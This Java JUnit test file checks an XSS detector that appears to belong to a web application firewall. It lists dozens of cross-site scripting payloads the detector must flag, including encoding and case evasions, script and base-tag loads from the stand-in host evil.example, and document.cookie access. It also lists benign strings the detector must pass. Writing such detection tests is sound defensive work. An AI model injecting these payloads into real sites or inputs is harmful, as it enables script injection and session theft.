package dev.aegis.waf;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CrossSiteScriptingTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\n>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<svg/onload=alert(1)>",
        "<svg\nonload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x\tONERROR=alert(1)>",
        "<img/src=x/onerror=alert(1)",
        "<body onload=alert(1)>",
        "<details open ontoggle=confirm(1)>",
        "<xssBypass/onpointermove=(confirm)(1)>Move",
        "\"><script>alert(document.cookie)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus=alert(1) x='",
        "x onerror=alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=javascript&colon;alert(1)>x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<iframe src=\"java sc ript:al ert()\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=x.swf>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<base href=//evil.example/>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=import href=//evil.example>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<div style=\"width: expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "';alert(1)//",
        "\"-alert(1)-\"",
        "'+alert(1)+'",
        "\";alert(String.fromCharCode(88,83,83))//",
        "</script><script>alert(1)</script>",
        "`${alert(1)}`",
        "alert`1`",
        "document.cookie",
        "document[\"cookie\"]",
        "eval('al'+'ert(1)')",
        "setTimeout('alert(1)',0)",
        "top[\"al\"+\"ert\"](1);(alert)(1)",
        "x.innerHTML = location.hash",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "style = background : url ( javascript : alert(1) )",
    })
    void detectsAttacks(String payload) {
        assertThat(CrossSiteScripting.detect(payload)).as(payload).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "I <3 cats",
        "a < b and c > d",
        "x=onion",
        "javascript is fun",
        "JavaScript: The Good Parts",
        "I read about javascript: closures and scope",
        "email me: a@b.c",
        "online",
        "one=1",
        "onion rings, 2 pieces",
        "the turn-on=off switch",
        "Hello, world! (it's me)",
        "price: 10.5 EUR, time: 12:30",
        "he said \"hello\" and left",
        "it's a 'quoted' word; then more",
        "https://example.com/path?a=1&b=2",
        "<b>bold</b> and <i>italic</i> text",
        "<p>A paragraph with <a href=\"https://example.com\">a link</a></p>",
        "<?xml version=\"1.0\"?><soap:Envelope><soap:Body><m:Get>1</m:Get></soap:Body></soap:Envelope>",
        "Please confirm (by email) the data: name, date",
        "document the cookie policy",
        "{\"name\": \"x\", \"tags\": [\"a\", \"b\"]}",
        "data: 42",
        "SELECT name FROM users WHERE id = 1",
        "",
        "ab",
    })
    void leavesBenignAlone(String value) {
        assertThat(CrossSiteScripting.detect(value)).as(value).isNull();
    }

    @Test
    void nullIsClean() {
        assertThat(CrossSiteScripting.detect(null)).isNull();
    }

    @Test
    void findingNamesFragmentAndReason() {
        Finding f = CrossSiteScripting.detect("hello <img src=x onerror=alert(1)>");
        assertThat(f).isNotNull();
        assertThat(f.fragment()).contains("<img");
        assertThat(f.reason()).isEqualTo("xss:event-handler");
    }

    @Test
    void hugeInputsAreBounded() {
        StringBuilder b = new StringBuilder();
        while (b.length() < 1 << 20) {
            b.append("<a x=\"<a x='on=(\"'`${ ");
        }
        String s = b.toString();
        for (int i = 0; i < 5; i++) {
            CrossSiteScripting.detect(s); // warm-up
        }
        long t0 = System.nanoTime();
        CrossSiteScripting.detect(s);
        long ms = (System.nanoTime() - t0) / 1_000_000;
        assertThat(ms).isLessThan(50);
        String clean = "a".repeat(1 << 20);
        assertThat(CrossSiteScripting.detect(clean)).isNull();
    }
}
